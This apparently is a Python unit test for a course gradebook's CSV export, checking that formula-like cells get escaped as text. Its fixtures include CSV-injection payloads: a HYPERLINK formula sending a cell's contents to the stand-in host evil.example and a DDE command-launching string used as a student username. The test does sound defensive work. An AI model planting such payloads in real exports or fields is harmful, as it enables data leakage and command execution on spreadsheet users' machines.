"""The gradebook's CSV opens in a spreadsheet: no cell of it is a formula, whoever chose
its text (a student's username, an instructor's question names, which also fill the
needs_grading column)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

from coursehub.db.models import Assignment
from coursehub.grading.gradebook import AWAITING, BY_HAND, Row, to_csv

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A2,"open")', "-1+1", "@SUM(A1)", "+1"]


def test_no_cell_of_the_csv_is_a_formula() -> None:
    questions = [
        {"name": q, "points": 1, "kind": "manual", "notebook": "ps1.ipynb"} for q in HOSTILE
    ]
    assignment = Assignment(name="ps1", questions=json.dumps(questions), max_points=4.0)
    row = Row(
        "=cmd|' /C calc'!A0",
        submission_id=1,
        attempt=1,
        submitted_at=datetime(2026, 1, 1, tzinfo=UTC),
        status="needs grading",
        points={q: None for q in HOSTILE} | {"+1": 1.0},
        states={q: AWAITING for q in HOSTILE} | {"+1": BY_HAND},
        pending_manual=True,
    )
    table = list(csv.reader(io.StringIO(to_csv(assignment, [row]))))
    cells = [cell for line in table for cell in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    # what the instructor reads is still there, quoted as text
    assert "'-1+1" in table[0] and table[1][0] == "'=cmd|' /C calc'!A0"
    assert table[1][-1].startswith("'=HYPERLINK") and "-1+1" in table[1][-1]
